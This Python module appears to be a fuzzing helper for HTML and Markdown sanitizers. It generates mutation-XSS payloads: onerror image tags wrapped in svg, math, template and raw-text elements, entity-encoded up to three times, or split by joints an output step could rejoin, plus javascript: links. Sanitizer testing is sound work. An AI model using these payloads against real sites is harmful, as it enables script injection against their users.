"""Markup that is parsed differently a second time, or in another place."""
# Elements with their own parsing rules, or whose content a parser moves elsewhere.
AROUND = ["<svg>{0}</svg>", "<math>{0}</math>", "<math><mtext>{0}</mtext></math>",
          "<svg><desc>{0}</desc></svg>",
          "<svg><foreignObject><p>{0}</foreignObject></svg>", "<table><caption>{0}</caption></table>",
          "<table>{0}</table>",
          "<select>{0}</select>", "<form><math><mtext></form><form>{0}", "<math><mtext><table><mglyph>{0}",
          "<noscript>{0}</noscript>", "<template>{0}</template>{0}", "<p><svg></p>{0}",
          "<button>{0}<button>"]
# Elements whose content is text up to their end tag, everywhere or only in HTML.
RAW = ["style", "title", "textarea", "xmp", "noembed", "noframes", "iframe", "script"]
INNER = ["<{0}><img title=\"</{0}><img src=x onerror={1}>\"></{0}>",
         "<{0}><!--</{0}><img src=x onerror={1}>--></{0}>"]


def nested():
    for around in AROUND:
        for name in RAW:
            # The two forms alternate, so that every pair of neighbors has both.
            inner = INNER[(AROUND.index(around) + RAW.index(name)) % len(INNER)]
            yield lambda run: around.format(inner.format(name, run))


def decoded_again():
    """Yields text that is markup after its references are decoded a second or a third time."""
    for depth in range(1, 4):
        for place in ["{}", "`{}`", "# {}", "[{}](/a)", "![{}](a.png)", "[x](/a \"{}\")", "    {}",
                      "```{}\ny\n```",
                      "[x](</{}>)", "[{}](javascript:0)"]:
            text = "<img src=x onerror={}>"
            for _ in range(depth):
                text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            yield place.format(text).format


def split():
    """Yields markup in pieces that only the output could join."""
    for first, second in [("<img src=x onerror", "={}>"), ("<", "img src=x onerror={}>"), ("<img ",
    "src=x onerror={}>"),
                          ("<scr", "ipt>{}</script>"), ("&", "lt;img src=x onerror={}&gt;"), ("&#6",
                          "0;img src=x onerror={}>"),
                          ("<a href=", "javascript:{}>x</a>"), ("[x](java", "script:{})"),
                          ("[x](javascript", ":{})")]:
        for joint in ["**", "_", "`", "``", "\\", "\\\n", "  \n", "\n", "\n\n", "<!-- -->", "<?x?>", "&#0;",
                      "&shy;", "\x00",
                      "[]()", "![]()", "{}", "{x}", "%@", "</b>"]:
            yield lambda run: first + joint + second.format(run)


FAMILIES = {"markup that mutates": nested, "references decoded again": decoded_again,
            "markup in pieces": split}
